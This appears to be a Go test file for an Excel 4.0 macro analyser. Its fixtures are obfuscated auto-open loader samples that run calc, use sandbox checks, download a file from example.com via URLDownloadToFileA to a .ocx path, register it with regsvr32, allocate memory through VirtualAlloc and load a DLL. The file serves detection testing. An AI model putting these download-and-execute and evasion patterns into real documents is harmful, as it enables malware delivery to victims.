package xlm

import (
	"context"
	"strings"
	"testing"
)

// sheetOf is a macro sheet with these cells: "A1: =EXEC(…)" a formula, "A1: text" a constant.
func sheetOf(t testing.TB, name string, lines ...string) Sheet {
	t.Helper()
	s := Sheet{Name: name, Kind: MacroSheet}
	for _, l := range lines {
		where, what, ok := strings.Cut(l, ": ")
		a, isRef := parseA1(where)
		if !ok || !isRef {
			t.Fatalf("not a cell: %q", l)
		}
		c := Cell{Row: a.row, Col: a.col, Value: what}
		if strings.HasPrefix(what, "=") {
			c.Formula, c.Value = what[1:], ""
		}
		s.Cells = append(s.Cells, c)
	}
	return s
}

// bookOf is a workbook whose Auto_Open is Macro1!A1.
func bookOf(t testing.TB, lines ...string) *Workbook {
	return &Workbook{Sheets: []Sheet{sheetOf(t, "Macro1", lines...)}, Names: []Name{{Name: "Auto_Open", Formula: "Macro1!$A$1", Sheet: -1}}}
}

func judged(t testing.TB, w *Workbook) *Report {
	t.Helper()
	r, err := Judge(context.Background(), w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// found says whether a hit of that keyword has the text in it.
func found(r *Report, keyword, text string) bool {
	for _, h := range r.Suspicious {
		if h.Keyword == keyword && strings.Contains(h.Text, text) {
			return true
		}
	}
	return false
}

func TestWhatLoadersDoIsWorkedOut(t *testing.T) {
	tests := []struct {
		name          string
		cells         []string
		keyword, text string
	}{
		{"plain", []string{`A1: =EXEC("calc.exe")`}, "EXEC", `EXEC("calc.exe")`},
		{"characters", []string{`A1: =EXEC(CHAR(99)&CHAR(97)&"l"&CHAR(99))`}, "EXEC", `EXEC("calc")`},
		{"pieces of a text", []string{`A1: =EXEC(MID(B1,1,4))`, `B1: calc.exe`}, "EXEC", `EXEC("calc")`},
		{"pieces in cells", []string{`A1: =EXEC(B1&B2)`, `B1: ca`, `B2: lc`}, "EXEC", `EXEC("calc")`},
		{"a formula that is written", []string{`A1: =FORMULA("=EX"&"EC(""calc"")",A2)`, `A3: =HALT()`}, "EXEC", `EXEC("calc")`},
		{"a formula that is filled", []string{`A1: =FORMULA.FILL(B1&B2,A2)`, `B1: ="=EX"`, `B2: EC("calc")`}, "EXEC", `EXEC("calc")`},
		{"a name", []string{`A1: =SET.NAME("x","calc")`, `A2: =EXEC(x)`}, "EXEC", `EXEC("calc")`},
		{"an assignment", []string{`A1: =x="calc"`, `A2: =EXEC(x)`}, "EXEC", `EXEC("calc")`},
		{"a jump", []string{`A1: =GOTO(C5)`, `A2: =HALT()`, `C5: =FORMULA("=EXEC("&CHAR(34)&"calc"&CHAR(34)&")",C6)`}, "EXEC", `EXEC("calc")`},
		{"a call", []string{`A1: =B1()`, `A2: =EXEC(B3)`, `B1: =SET.VALUE(B3,"calc")`, `B2: =RETURN()`}, "EXEC", `EXEC("calc")`},
		{"what a macro returns", []string{`A1: =EXEC(B1())`, `B1: =RETURN("calc")`}, "EXEC", `EXEC("calc")`},
		{"arguments", []string{`A1: =EXEC(B1("ca"))`, `B1: =ARGUMENT("x")`, `B2: =RETURN(x&"lc")`}, "EXEC", `EXEC("calc")`},
		{"a loop", []string{`A1: =s=""`, `A2: =FOR("i",1,4)`, `A3: =s=s&CHAR(INDEX(B1:B4,i)-1)`, `A4: =NEXT()`, `A5: =EXEC(s)`, `B1: 100`, `B2: 98`, `B3: 109`, `B4: 100`},
			"EXEC", `EXEC("calc")`},
		{"a loop with a condition", []string{`A1: =i=0`, `A2: =s=""`, `A3: =WHILE(i<4)`, `A4: =s=s&MID("xcxaxlxc",2*i+2,1)`, `A5: =i=i+1`, `A6: =NEXT()`, `A7: =EXEC(s)`},
			"EXEC", `EXEC("calc")`},
		{"each cell of an area", []string{`A1: =s=""`, `A2: =FOR.CELL("c",B1:B4)`, `A3: =s=s&CHAR(c)`, `A4: =NEXT()`, `A5: =EXEC(s)`, `B1: 99`, `B2: 97`, `B3: 108`, `B4: 99`},
			"EXEC", `EXEC("calc")`},
		{"behind a question to the machine", []string{`A1: =IF(GET.WORKSPACE(19),,CLOSE(TRUE))`, `A2: =FORMULA("=EXEC(""cal""&B1)",A3)`, `B1: c`}, "EXEC", `EXEC("calc")`},
		{"behind a jump on a question", []string{`A1: =IF(GET.WORKSPACE(13)<770,GOTO(A9),GOTO(B1))`, `A9: =HALT()`, `B1: =FORMULA("=EXEC("&C1,B2)`, `C1: "calc")`},
			"EXEC", `EXEC("calc")`},
		{"in a block on a question", []string{`A1: =IF(GET.WORKSPACE(42))`, `A2: =HALT()`, `A3: =ELSE()`, `A4: =x="calc"`, `A5: =EXEC(x)`, `A6: =END.IF()`}, "EXEC", `EXEC("calc")`},
		{"a download", []string{`A1: =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.com/"&B1,"C:\ProgramData\x.ocx",0,0)`, `B1: x`},
			"URLDownloadToFileA", `"http://example.com/x","C:\ProgramData\x.ocx"`},
		{"a procedure under another name", []string{`A1: =REGISTER("url"&"mon","URLDownloadToFileA","JJCCJJ","Dl",,1,9)`, `A2: =Dl(0,"http://example.com/a","b",0,0)`},
			"URLDownloadToFileA", `"http://example.com/a"`},
		{"a procedure by its number", []string{`A1: =REGISTER("kernel32","VirtualAlloc","JJJJJ")`, `A2: =CALL(A1,0,1000,4096,64)`}, "VirtualAlloc", `,4096,64)`},
		{"a library of their own", []string{`A1: =CALL("C:\x\evil.dll","go","J")`}, "CALL", `evil.dll`},
		{"a macro run by its name", []string{`A1: =RUN("part2")`, `A2: =EXEC(x)`, `B5: =x="calc"`, `B6: =RETURN()`}, "EXEC", `EXEC("calc")`},
		{"a reference as text", []string{`A1: =FORMULA(INDIRECT("B"&1),INDIRECT("R3C1",FALSE))`, `B1: ="=EXEC(""calc"")"`}, "EXEC", `EXEC("calc")`},
		{"a cell that is copied", []string{`A1: =COPY(B1,A2)`, `B1: =EXEC("ca"&B2)`, `B2: lc`}, "EXEC", `EXEC("calc")`},
		{"a script that is written", []string{`A1: =FOPEN("C:\Users\Public\a"&".vbs",3)`, `A2: =FWRITELN(A1,"x")`}, "FWRITELN", `"x"`},
		{"a text that is worked out", []string{`A1: =ALERT("a")`, `B9: ="reg"&"svr32 -s x.ocx"`}, "regsvr32", `regsvr32 -s`},
		{"a formula as a text", []string{`A1: =EVALUATE("EX"&"EC(""calc"")")`}, "EXEC", `EXEC("calc")`},
		{"later", []string{`A1: =ON.TIME(NOW()+"00:00:02","Macro1!R1C3")`, `C1: =x="calc"`, `C2: =EXEC(x)`}, "EXEC", `EXEC("calc")`},
		{"never reached", []string{`A1: =HALT()`, `F9: =EXEC("ca"&"lc")`}, "EXEC", `EXEC("calc")`},
		{"a formula that is damaged", []string{`A1: =EXEC("calc")&&&)(`}, "EXEC", `calc`},
		{"a key that is not known", []string{`A1: =FORMULA(CHAR(GET.WORKSPACE(13)+2)&CHAR(B1),A2)`, `B1: 99`}, "FORMULA", `CHAR`},
		{"a key that is not known, in cells", []string{`A1: =FORMULA(B1&B2,A2)`, `B1: =CHAR(GET.CELL(17,C1)+4)`, `B2: =C5`, `C5: =CHAR(GET.WORKSPACE(13))`}, "FORMULA", `B1&B2`},
		{"the selection", []string{`A1: =SELECT(C1)`, `A2: =SELECT("R[2]C[-2]")`, `A4: =HALT()`, `A3: =FORMULA("=EX"&"EC(""calc"")")`, `C9: =FORMULA("=EX"&"EC(""calc"")")`}, "EXEC", `EXEC("calc")`},
		{"an array of values", []string{`A1: =SET.VALUE(C1:C2,{"ca";"lc"})`, `A2: =EXEC(C1&C2)`}, "EXEC", `EXEC("calc")`},
		{"a name that is defined", []string{`A1: =DEFINE.NAME("z","=""ca""&""lc""")`, `A2: =EXEC(z)`}, "EXEC", `EXEC("calc")`},
		{"a loop that is left", []string{`A1: =FOR("i",1,9)`, `A2: =IF(i=3)`, `A3: =BREAK()`, `A4: =END.IF()`, `A5: =NEXT()`, `A6: =EXEC("calc"&i)`}, "EXEC", `EXEC("calc3")`},
		{"a chain of conditions", []string{`A1: =IF(1>2)`, `A2: =x=1`, `A3: =ELSE.IF(2>1)`, `A4: =x=2`, `A5: =ELSE()`, `A6: =x=3`, `A7: =END.IF()`, `A8: =EXEC("calc"&x)`}, "EXEC", `EXEC("calc2")`},
		{"a block inside a block that is passed over", []string{`A1: =x=0`, `A2: =IF(1>2)`, `A3: =IF(1>2)`, `A4: =ELSE()`, `A5: =END.IF()`, `A6: =x=1`, `A7: =END.IF()`, `A8: =EXEC("calc"&x)`},
			"EXEC", `EXEC("calc0")`},
		{"a count that is not known", []string{`A1: =FOR("i",1,GET.WORKSPACE(13))`, `A2: =x="calc"`, `A3: =NEXT()`, `A4: =EXEC(x)`}, "EXEC", `EXEC("calc")`},
		{"counting down by two", []string{`A1: =FOR("i",5,1,-2)`, `A2: =s=s&i`, `A3: =NEXT()`, `A4: =EXEC("calc"&s)`}, "EXEC", `531")`},
		{"a function's error trap", []string{`A1: =ERROR(TRUE,C1)`, `A2: =HALT()`, `C1: =x="calc"`, `C2: =EXEC(x)`}, "EXEC", `EXEC("calc")`},
		{"a procedure's name in a name", []string{`A1: =REGISTER(B1,B2,"JJCCJJ",B3)`, `A2: =RUN("Dl")`, `A3: =Dl(0,B4)`, `B1: urlmon`, `B2: URLDownloadToFileA`, `B3: Dl`, `B4: http://example.com/`},
			"URLDownloadToFileA", `"http://example.com/"`},
		{"written with a text of the machine", []string{`A1: =EXEC("cmd "&GET.WORKSPACE(1)&" x")`}, "EXEC", `EXEC("cmd … x")`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := bookOf(t, tt.cells...)
			w.Names = append(w.Names, Name{Name: "part2", Formula: "Macro1!$B$5", Sheet: -1, Macro: true})
			r := judged(t, w)
			if !found(r, tt.keyword, tt.text) {
				t.Errorf("no %s with %q in %+v\n%s", tt.keyword, tt.text, r.Suspicious, strings.Join(r.Formulas, "\n"))
			}
			if len(r.Autoexec) != 1 || r.Cut {
				t.Errorf("autoexec %v, cut %v", r.Autoexec, r.Cut)
			}
		})
	}
}
